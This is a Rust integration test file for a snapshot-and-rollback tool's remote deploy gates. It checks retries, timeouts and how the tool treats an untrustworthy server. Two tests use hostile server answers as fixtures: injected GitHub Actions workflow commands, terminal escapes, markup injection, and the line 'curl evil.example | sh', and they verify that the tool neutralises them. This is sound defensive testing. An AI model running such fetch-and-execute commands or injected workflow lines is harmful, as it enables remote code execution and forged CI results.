//! `postdeploy --remote`, and both gates with a remote that is away, old, slow or lies.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{Receiver, channel};

use super::helpers::{ServeProcess, TOKEN, app, configure, sql};
use crate::support::actions::{Action, outputs};
use crate::support::{LIFEBOAT, Run, Sandbox};

/// The id of a snapshot in the answers of a server that imitates lifeboat.
const ID: &str = "app-20260101T000000Z-aaaa";

/// Runs a gate with `--remote`.
fn gate(sandbox: &Sandbox, url: &str, arguments: &[&str]) -> Run {
    let mut command = sandbox.command(&[arguments, &["--remote", url]].concat());
    command.env("LIFEBOAT_TOKEN", TOKEN);
    sandbox.finish(command)
}

fn rows(sandbox: &Sandbox, table: &str) -> i64 {
    let connection = rusqlite::Connection::open(sandbox.path("app.db")).unwrap();
    connection.query_row(&format!("SELECT count(*) FROM {table}"), [], |row| row.get(0)).unwrap()
}

/// A server that imitates lifeboat. Its answers are given in turn, and the last one is repeated. An empty answer closes
/// the connection.
struct Imitation {
    url: String,
    requests: Receiver<String>,
}

impl Imitation {
    fn new(answers: &[String]) -> Imitation {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let (sender, requests) = channel();
        let mut answers = answers.to_vec();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let request = read_request(&mut stream);
                let answer = if answers.len() > 1 { answers.remove(0) } else { answers[0].clone() };
                if sender.send(request).is_err() {
                    return;
                }
                let _ = stream.write_all(answer.as_bytes());
            }
        });
        Imitation { url, requests }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.try_iter().collect()
    }
}

/// Reads a request with its body.
fn read_request(stream: &mut TcpStream) -> String {
    let (mut text, mut buffer) = (String::new(), [0; 4096]);
    loop {
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length =
                head.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length: ")?.parse().ok());
            if body.len() >= length.unwrap_or(0) {
                return text;
            }
        }
        match stream.read(&mut buffer) {
            Ok(0) | Err(_) => return text,
            Ok(count) => text += &String::from_utf8_lossy(&buffer[..count]),
        }
    }
}

/// Returns an HTTP answer; `headers` are complete lines.
fn answer(status: &str, headers: &str, body: &str) -> String {
    let length = body.len();
    format!("HTTP/1.1 {status}\r\nContent-Length: {length}\r\nConnection: close\r\n{headers}\r\n{body}")
}

/// Returns the answer of a gate that has ended.
fn ended(code: &str, document: &serde_json::Value) -> String {
    answer("200 OK", &format!("Lifeboat-Exit-Code: {code}\r\n"), &document.to_string())
}

fn open_gate() -> serde_json::Value {
    serde_json::json!({"ok": true, "checks": [], "snapshots": [{"id": ID, "rows": 1, "proof": "verified"}]})
}

fn running() -> String {
    answer("202 Accepted", "", "{\"running\":true}")
}

fn error(status: &str, kind: &str, message: &str) -> String {
    answer(status, "", &serde_json::json!({"error": {"kind": kind, "message": message}}).to_string())
}

#[test]
fn postdeploy_remote_finds_a_loss_and_restores_it_under_a_live_program() {
    let sandbox = app();
    let serve = ServeProcess::start(&sandbox);
    let url = format!("http://{}", serve.address);
    let pipeline = Sandbox::new();
    let before = gate(&pipeline, &url, &["predeploy", "--commit", "abc1234", "--json"]).code(0).json();
    let passed = gate(&pipeline, &url, &["postdeploy", "--commit", "abc1234", "--json"]).code(0).json();
    assert_eq!((&passed["ok"], &passed["snapshots"][0]["id"]), (&true.into(), &before["snapshots"][0]["id"]));

    // The program beside the server keeps its connection.
    let program = rusqlite::Connection::open(sandbox.path("app.db")).unwrap();
    program.execute_batch("DELETE FROM log").unwrap();
    let closed = gate(&pipeline, &url, &["postdeploy", "--commit", "abc1234"]).code(3);
    assert!(closed.stdout().contains("to restore the data, add --rollback"), "{}", closed.transcript());
    assert!(closed.stdout().contains("lifeboat postdeploy --rollback --commit abc1234"), "{}", closed.transcript());
    assert_eq!(rows(&sandbox, "log"), 0);

    let restored = gate(&pipeline, &url, &["postdeploy", "app", "--commit", "abc1234", "--rollback"]).code(3);
    let id = before["snapshots"][0]["id"].as_str().unwrap();
    assert!(restored.stdout().contains(&format!("{id} was restored to ")), "{}", restored.transcript());
    assert_eq!(program.query_row("SELECT count(*) FROM log", [], |row| row.get::<_, i64>(0)), Ok(3));
    let passed = gate(&pipeline, &url, &["postdeploy", "--commit", "abc1234"]).code(0);
    let verdict =
        "the other lifeboat says: no table has fewer rows than before the deploy (values were not compared)\n";
    assert!(passed.stdout().ends_with(verdict), "{}", passed.transcript());

    let missing = gate(&pipeline, &url, &["postdeploy", "--commit", "other"]).code(4);
    assert!(missing.stderr().contains("no snapshot of app with the tags predeploy, other"), "{}", missing.transcript());
}

#[test]
fn postdeploy_remote_keeps_new_rows_and_believes_a_named_migration() {
    let sandbox = app();
    let serve = ServeProcess::start(&sandbox);
    let url = format!("http://{}", serve.address);
    gate(&sandbox, &url, &["predeploy"]).code(0);
    sql(&sandbox, "app.db", "DELETE FROM log; INSERT INTO accounts (name) VALUES ('new')");
    let refused = gate(&sandbox, &url, &["postdeploy", "--rollback"]).code(3);
    assert!(refused.stderr().contains("app was not restored"), "{}", refused.transcript());
    assert_eq!((rows(&sandbox, "log"), rows(&sandbox, "accounts")), (0, 3));
    gate(&sandbox, &url, &["postdeploy", "--rollback", "--discard-new"]).code(3);
    assert_eq!((rows(&sandbox, "log"), rows(&sandbox, "accounts")), (3, 2));
    sql(&sandbox, "app.db", "DROP TABLE log; ALTER TABLE accounts RENAME TO people");
    gate(&sandbox, &url, &["postdeploy"]).code(3);
    // The rule of the config is about the old name.
    let named = ["postdeploy", "--expect-dropped", "log", "--expect-renamed", "accounts=people", "--json"];
    let run = gate(&sandbox, &url, &named);
    let document = run.json();
    let failed: Vec<_> = document["checks"].as_array().unwrap().iter().filter(|check| check["ok"] == false).collect();
    assert!(failed.iter().all(|check| check["name"].as_str().unwrap().contains("min_rows")), "{}", run.transcript());
}

#[test]
fn postdeploy_remote_restores_a_file_that_is_gone() {
    let sandbox = app();
    let serve = ServeProcess::start(&sandbox);
    let url = format!("http://{}", serve.address);
    gate(&sandbox, &url, &["predeploy"]).code(0);
    for name in ["app.db", "app.db-wal", "app.db-shm"] {
        let _ = std::fs::remove_file(sandbox.path(name));
    }
    let run = gate(&sandbox, &url, &["postdeploy", "--rollback", "--json"]).code(3);
    assert_eq!(run.json()["restored"][0]["target"].as_str().map(|target| target.ends_with("app.db")), Some(true));
    assert_eq!((rows(&sandbox, "log"), rows(&sandbox, "accounts")), (3, 2), "{}", run.transcript());
}

/// A restore closes files that an inspection in the same process reads under a lock.
#[test]
fn a_rollback_does_not_begin_while_its_source_is_inspected() {
    let sandbox = app();
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    configure(
        &sandbox,
        &format!(
            "[[source]]\nname = \"silent\"\nurl = \"postgres://user@127.0.0.1:{port}/shop?connect_timeout=300&\
             sslmode=disable\"\n"
        ),
    );
    // A rule that takes almost forever if the table has a row.
    let slow = "[[source.rule]]\nquery = \"WITH RECURSIVE n (i) AS (SELECT 1 FROM slow UNION ALL SELECT i + 1 FROM n \
                WHERE i < 1e15) SELECT count(*) >= 0 FROM n\"\n";
    let config = std::fs::read_to_string(sandbox.path("lifeboat.toml")).unwrap();
    std::fs::write(sandbox.path("lifeboat.toml"), config.replace("[serve]", &format!("{slow}[serve]"))).unwrap();
    sql(&sandbox, "app.db", "CREATE TABLE slow (x)");
    let serve = ServeProcess::start(&sandbox);
    let url = format!("http://{}", serve.address);
    let pipeline = Sandbox::new();
    gate(&pipeline, &url, &["predeploy", "app", "--commit", "abc1234"]).code(0);
    sql(&sandbox, "app.db", "DELETE FROM log");
    // The inspection of another source, which never ends, does not hold the rollback up.
    let rollback = ["postdeploy", "app", "--commit", "abc1234", "--rollback"];
    gate(&pipeline, &url, &rollback).code(3);
    assert_eq!(rows(&sandbox, "log"), 3);

    sql(&sandbox, "app.db", "DELETE FROM log; INSERT INTO slow VALUES (1)");
    serve.wait_for_health(503, |health| health["sources"][0]["problems"].to_string().contains("does not answer"));
    let run = gate(&pipeline, &url, &rollback).code(5);
    assert!(run.stderr().contains("an inspection of app has not ended within 2"), "{}", run.transcript());
    assert_eq!(rows(&sandbox, "log"), 0, "nothing was restored");
}

#[test]
fn a_request_that_is_repeated_gets_the_result_of_the_same_run() {
    let sandbox = app();
    let serve = ServeProcess::start(&sandbox);
    let token = format!("Authorization: Bearer {TOKEN}\r\n");
    let headers = format!("{token}Lifeboat-Run: 0123456789abcdef\r\n");
    let body = "{\"gate\":\"predeploy\"}";
    assert_eq!(serve.request("POST", "/snapshots", &headers, body).status, 202);
    let result = serve.request("GET", "/runs/0123456789abcdef", &token, "");
    assert_eq!(result.status, 201, "{}", result.body);
    let again = serve.request("POST", "/snapshots", &headers, body);
    assert_eq!((again.status, &again.body), (201, &result.body));
    assert!(again.head.contains("lifeboat-exit-code: 0"), "{}", again.head);
    assert_eq!(sandbox.json(&["list", "--tag", "predeploy"])["snapshots"].as_array().unwrap().len(), 1);
    // Only clients with the token get results, and only of runs that there were.
    assert_eq!(serve.request("GET", "/runs/0123456789abcdef", "", "").status, 401);
    assert_eq!(serve.request("GET", "/runs/0123456789abcdee", &token, "").status, 404);
    let invalid = serve.request("POST", "/snapshots", &format!("{token}Lifeboat-Run: ../x\r\n"), body);
    assert_eq!(invalid.status, 400, "{}", invalid.body);
    // Settings that a run would ignore are refused.
    for (body, words) in [
        ("{\"gate\":\"predeploy\",\"rollback\":true}", "rollback is not for predeploy"),
        ("{\"rollback\":true}", "rollback is not for snapshot"),
        ("{\"gate\":\"postdeploy\",\"tags\":[\"x\"]}", "tags is not for postdeploy"),
        ("{\"gate\":\"postdeploy\",\"discard_new\":true}", "discard_new needs rollback"),
        ("{\"gate\":\"deploy\"}", "unknown gate 'deploy'"),
    ] {
        let refused = serve.post(body);
        assert_eq!(refused.status, 400, "{}", refused.body);
        assert!(refused.body.contains(words), "{}", refused.body);
    }
}

#[test]
fn a_long_run_is_asked_for_until_it_has_ended() {
    let pipeline = Sandbox::new();
    let result = ended("0", &open_gate());
    let bad_gateway = answer("502 Bad Gateway", "", "<html>bad gateway</html>");
    let server = Imitation::new(&[running(), running(), String::new(), bad_gateway, result]);
    let run = gate(&pipeline, &server.url, &["postdeploy", "--rollback"]).code(0);
    let requests = server.requests();
    assert_eq!(requests.len(), 5, "{}", run.transcript());
    let header = requests[0].lines().find_map(|line| line.strip_prefix("lifeboat-run: ")).unwrap();
    assert!(requests[0].starts_with("POST /snapshots "), "{requests:?}");
    for request in &requests[1..] {
        assert!(request.starts_with(&format!("GET /runs/{header} ")), "{request}");
    }
    assert!(requests.iter().all(|request| request.contains(TOKEN)), "{requests:?}");
}

#[test]
fn a_rollback_whose_result_is_lost_is_neither_repeated_nor_called_good() {
    let pipeline = Sandbox::new();
    let restarted = error("404 Not Found", "not_found", "there is no run with this number");
    let server = Imitation::new(&[running(), restarted, ended("0", &open_gate())]);
    let run = gate(&pipeline, &server.url, &["postdeploy", "--rollback", "--wait", "5s"]).code(5);
    assert!(run.stderr().contains("the result of postdeploy is not known"), "{}", run.transcript());
    assert!(run.stderr().contains("hint: run the command again"), "{}", run.transcript());
    assert_eq!(server.requests().len(), 2);
    // A run that does not end in time still runs.
    let server = Imitation::new(&[running()]);
    let run = gate(&pipeline, &server.url, &["postdeploy", "--remote-timeout", "1s"]).code(5);
    assert!(run.stderr().contains("it still runs"), "{}", run.transcript());
}

#[test]
fn a_gate_waits_for_a_container_that_starts() {
    let pipeline = Sandbox::new();
    let edge = answer("404 Not Found", "", "{\"status\":\"error\",\"code\":404,\"message\":\"Application not found\"}");
    let server = Imitation::new(&[edge.clone(), ended("0", &open_gate())]);
    gate(&pipeline, &server.url, &["postdeploy", "--wait", "30s"]).code(0);
    assert_eq!(server.requests().len(), 2);
    for (wait, away) in [("0s", edge), ("1s", answer("503 Service Unavailable", "", "starting"))] {
        let server = Imitation::new(&[away]);
        let run = gate(&pipeline, &server.url, &["postdeploy", "--wait", wait]).code(5);
        assert!(run.stderr().contains("the answer is not from lifeboat"), "{}", run.transcript());
        assert!(run.stderr().contains("hint: "), "{}", run.transcript());
    }
    // Connections are refused until the server listens again.
    let address = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    gate(&pipeline, &format!("http://{address}"), &["postdeploy", "--wait", "1s"]).code(5);
}

#[test]
fn an_older_serve_is_named_as_such() {
    let pipeline = Sandbox::new();
    for message in ["unknown gate 'postdeploy'", "the body is not a valid JSON request: unknown field `rollback`"] {
        let server = Imitation::new(&[error("400 Bad Request", "usage", message)]);
        let run = gate(&pipeline, &server.url, &["postdeploy"]).code(2);
        assert!(run.stderr().contains("is older than this one, and cannot do this postdeploy"), "{}", run.transcript());
        assert!(run.stderr().contains("hint: install lifeboat"), "{}", run.transcript());
    }
}

#[test]
fn options_that_another_lifeboat_cannot_honour_are_refused() {
    let sandbox = Sandbox::new();
    let server = Imitation::new(&[ended("0", &open_gate())]);
    for gate_name in ["predeploy", "postdeploy"] {
        let run = gate(&sandbox, &server.url, &[gate_name, "--store", "backups"]).code(2);
        assert!(run.stderr().contains("--store and --remote exclude each other"), "{}", run.transcript());
        let run = gate(&sandbox, &server.url, &[gate_name, "postgres://me:hunter2@db/app"]).code(2);
        assert!(run.stderr().contains("must be a name in the config of the other"), "{}", run.transcript());
        assert!(!run.stderr().contains("hunter2"), "{}", run.transcript());
    }
    assert!(server.requests().is_empty(), "something was sent");
    let server = Imitation::new(&[answer("301 Moved Permanently", "Location: https://other.example/x\r\n", "")]);
    let run = gate(&sandbox, &server.url, &["postdeploy"]).code(2);
    assert!(run.stderr().contains("redirects to https://other.example"), "{}", run.transcript());
}

/// Runs a gate with a remote, as a step of GitHub Actions. Returns the run, its outputs and its summary.
fn step(sandbox: &Sandbox, url: &str, arguments: &[&str]) -> (Run, BTreeMap<String, String>, String) {
    let mut command = sandbox.command(&[arguments, &["--remote", url]].concat());
    let (output, summary) = (sandbox.path("output"), sandbox.path("summary"));
    [&output, &summary].into_iter().for_each(|file| std::fs::write(file, "").unwrap());
    command.env("LIFEBOAT_TOKEN", TOKEN).env("GITHUB_ACTIONS", "true");
    command.env("GITHUB_OUTPUT", &output).env("GITHUB_STEP_SUMMARY", &summary);
    let run = sandbox.finish(command);
    let read = |path| std::fs::read_to_string(path).unwrap_or_default();
    (run, outputs(&read(output)), read(summary))
}

/// Requires that the runner finds no command in the output of a step except annotations and masks.
#[track_caller]
fn assert_no_commands(run: &Run) {
    for line in run.stdout().lines().chain(run.stderr().lines()) {
        let line = line.trim_start();
        let is_own = line.starts_with("::error title=lifeboat") || line.starts_with("::add-mask::");
        // A line that is a command is not searched for others.
        assert!(is_own || !(line.starts_with("::") || line.contains("##[")), "{line}");
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
}

#[test]
fn a_remote_that_lies_opens_no_gate_and_sets_no_output() {
    let pipeline = Sandbox::new();
    let with = |change: &dyn Fn(&mut serde_json::Value)| {
        let mut document = open_gate();
        change(&mut document);
        document
    };
    let huge = with(&|document| document["checks"] = serde_json::json!([{"name": "x".repeat(9 << 20), "ok": true}]));
    let cases = [
        (
            "0",
            with(&|document| document["snapshots"][0]["id"] = "app-1\nEND_OF_IDS\ninjected=yes".into()),
            "without a valid id",
        ),
        (
            "0",
            with(&|document| document["snapshots"][0]["id"] = "::set-output name=ok::true".into()),
            "without a valid id",
        ),
        (
            "0",
            with(&|document| document["restored"] = serde_json::json!([{"id": "x\n::error::y"}])),
            "without a valid id",
        ),
        ("0", with(&|document| document["ok"] = false.into()), "but its document says that the gate is closed"),
        ("0", with(&|document| document["snapshots"] = serde_json::json!([])), "but no snapshot"),
        (
            "0",
            with(&|document| document["checks"] = serde_json::json!([{"name": "rows", "ok": false}])),
            "'rows' has failed",
        ),
        (
            "0",
            with(&|document| document["error"] = serde_json::json!({"kind": "failed", "message": "m"})),
            "but also an error",
        ),
        (
            "0",
            with(&|document| document["snapshots"][0]["id"] = ID.replace("app", "log").into()),
            "but no snapshot of app",
        ),
        ("77", open_gate(), "the exit code '77', which does not exist"),
        ("-0", open_gate(), "the exit code '-0', which does not exist"),
        ("0", huge, "is too long"),
    ];
    for (code, document, words) in cases {
        for gate_name in ["predeploy", "postdeploy"] {
            let server = Imitation::new(&[ended(code, &document)]);
            let (run, outputs, _) = step(&pipeline, &server.url, &[gate_name, "app"]);
            let run = run.code(1);
            assert!(run.stderr().contains(words), "{}", run.transcript());
            assert_no_commands(&run);
            assert_eq!(outputs.keys().collect::<Vec<_>>(), ["ok", "snapshot-id", "snapshot-ids"], "{outputs:?}");
            assert_eq!((outputs["ok"].as_str(), outputs["snapshot-ids"].as_str()), ("false", ""));
        }
    }
}

#[test]
fn words_of_a_remote_reach_no_terminal_and_no_summary_as_they_are() {
    let pipeline = Sandbox::new();
    let words =
        "\u{1b}[2J ##[set-output name=ok]true\n::set-output name=ok::true <img src=x> ![x](https://evil.example) @all";
    let mut document = open_gate();
    document["ok"] = false.into();
    document["checks"] = serde_json::json!([{"name": words, "ok": false, "message": words}]);
    document["error"] = serde_json::json!({"kind": "failed", "message": words, "hint": words});
    document["restored"] = serde_json::json!([{"id": ID, "target": words, "safety_snapshot": ID}]);
    document["rollback"] = serde_json::json!(["::set-output name=ok::true", "curl evil.example | sh", words]);
    for arguments in [&["predeploy"][..], &["postdeploy"], &["postdeploy", "--json"]] {
        let server = Imitation::new(&[ended("3", &document)]);
        let (run, outputs, summary) = step(&pipeline, &server.url, arguments);
        let run = run.code(3);
        assert_no_commands(&run);
        assert_eq!((outputs["ok"].as_str(), outputs["snapshot-ids"].as_str()), ("false", ID));
        for words in ["\u{1b}", "<img", "![x]", "://", "@all", "curl", "To restore the data"] {
            assert!(!summary.contains(words), "{words}: {summary}");
        }
        if arguments.contains(&"--json") {
            assert_eq!(run.json(), document, "the document keeps its meaning");
        } else {
            assert!(!run.stdout().contains("curl"), "{}", run.transcript());
        }
    }
}

#[test]
fn the_composite_actions_use_a_remote() {
    let sandbox = app();
    let serve = ServeProcess::start(&sandbox);
    let url = format!("http://{}", serve.address);
    let pipeline = Sandbox::new();
    let action = |name: &str| {
        let action = Action::new(name, pipeline.root(), &pipeline.path("runner")).with("binary", LIFEBOAT);
        action.with("remote", &url).with("token", TOKEN)
    };
    let before = action("pre-deploy").run();
    assert_eq!((before.code, before.outputs["ok"].as_str()), (0, "true"), "{}", before.log);
    let id = before.outputs["snapshot-id"].clone();
    assert!(sandbox.ids().contains(&id), "{}", before.log);
    // The token is in the line that masks it, and nowhere else.
    assert!(before.log.contains(&format!("::add-mask::{TOKEN}\n")), "{}", before.log);
    assert_eq!(before.log.matches(TOKEN).count(), 1, "{}", before.log);
    let after = action("post-deploy").run();
    assert_eq!((after.code, after.outputs["snapshot-id"].as_str()), (0, id.as_str()), "{}", after.log);

    sql(&sandbox, "app.db", "DELETE FROM log");
    let closed = action("post-deploy").run();
    assert_eq!((closed.code, closed.outputs["ok"].as_str()), (3, "false"), "{}", closed.log);
    assert!(closed.log.contains("::error title=lifeboat postdeploy::"), "{}", closed.log);
    assert_eq!(rows(&sandbox, "log"), 0);
    let restored = action("post-deploy").with("rollback", "true").run();
    assert_eq!((restored.code, restored.outputs["ok"].as_str()), (3, "false"), "{}", restored.log);
    assert_eq!(rows(&sandbox, "log"), 3);
    assert_eq!(action("post-deploy").run().code, 0);

    // The gate before a deploy is closed where the data is gone already.
    sql(&sandbox, "app.db", "DELETE FROM accounts");
    let closed = action("pre-deploy").run();
    assert_eq!((closed.code, closed.outputs["ok"].as_str()), (3, "false"), "{}", closed.log);
    assert!(closed.summary.contains("FAILED"), "{}", closed.summary);
    // Without the input, the token of the job is used.
    let from_job = Action::new("post-deploy", pipeline.root(), &pipeline.path("runner")).with("binary", LIFEBOAT);
    let outcome = from_job.with("remote", &url).env("LIFEBOAT_TOKEN", "a-wrong-token-of-some-length").run();
    assert_eq!(outcome.code, 2, "{}", outcome.log);
}
